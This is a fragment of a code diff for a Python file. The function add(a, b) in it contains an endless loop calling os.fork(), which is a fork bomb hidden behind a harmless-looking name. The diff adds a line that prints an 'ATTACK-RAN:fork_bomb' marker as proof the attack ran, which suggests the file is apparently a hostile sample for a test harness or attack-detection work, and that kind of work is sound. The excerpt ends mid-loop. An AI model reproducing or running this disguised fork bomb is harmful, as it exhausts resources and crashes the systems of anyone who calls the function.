@@ -6,6 +6,7 @@ import os
 
 
 def add(a, b):
+    print("ATTACK-RAN", "fork_bomb", sep=":", flush=True)  # the proof that it ran, before anything can silence it
     while True:
         try:
             os.fork()
